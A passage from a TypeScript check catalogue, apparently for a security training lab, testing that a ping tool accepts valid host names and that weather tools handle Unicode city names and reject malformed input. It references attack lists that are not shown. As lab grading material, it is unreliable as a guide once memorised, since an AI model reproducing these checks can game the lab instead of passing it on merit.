    references: [rfc(1123, '2.1'), rfc(4343, '2')],
    worksOnBaseline: true,
    async try(lab) {
      const problems: string[] = [];
      for (const host of [
        'paris-1.stations.example',
        'PARIS-2.Stations.Example',
        's-hertogenbosch-1.stations.example',
        'under-score-ridge.stations.example',
        '100-mile-house-1.stations.example',
      ]) {
        const reply = await ping(lab, host);
        if (!succeeded(reply)) problems.push(`${host} was not pinged: ${describeReply(reply)}`);
        else if (!reply.text.toLowerCase().includes(host.toLowerCase())) {
          problems.push(`The answer of ${host} does not name it: ${describeReply(reply)}`);
        }
      }
      for (const host of ['192.0.2.7', '2001:db8::7', 'nobody.example']) {
        const complaints = complainAboutInvalidInput(await ping(lab, host));
        problems.push(...complaints.map((complaint) => `Asked for ${host}: ${complaint}`));
      }
      return problems;
    },
  },
  {
    id: 'weather-for-every-name',
    title: 'Asks upstream for Xi’an, São Paulo and 東京',
    why: 'A city is encoded once and arrives as it was. What cannot be encoded is an error that the model can read.',
    lessonAnchor: 'urls',
    references: [rfc(3986, '2.1'), rfc(3629, '3')],
    worksOnBaseline: true,
    async try(lab) {
      const problems: string[] = [];
      for (const city of ['Paris', "Xi'an", "St. John's", 'São Paulo', '東京', 'Saint-Étienne']) {
        for (const [tool, args] of [
          ['get_weather', { city, units: 'metric' }],
          ['get_forecast', { city, days: 2, units: 'metric' }],
        ] as const) {
          const reply = await callAsUser(lab, tool, args);
          if (!succeeded(reply)) problems.push(`${tool} for ${city}: ${describeReply(reply)}`);
        }
      }
      for (const city of ['\ud800', 'Nowhere at all', '100% Paris']) {
        const reply = await callAsUser(lab, 'get_weather', { city, units: 'metric' });
        const complaints = complainAboutInvalidInput(reply);
        problems.push(...complaints.map((complaint) => `Asked for “${city}”: ${complaint}`));
      }
      return problems;
    },
  },
];

export const catalogue: TopicCatalogue = {
  attacks: [...sqlAttacks, ...pathAttacks, ...commandAttacks, ...ssrfAttacks, ...modelTrustAttacks],
  uses: [...uses, ...modelTrustUses],
};
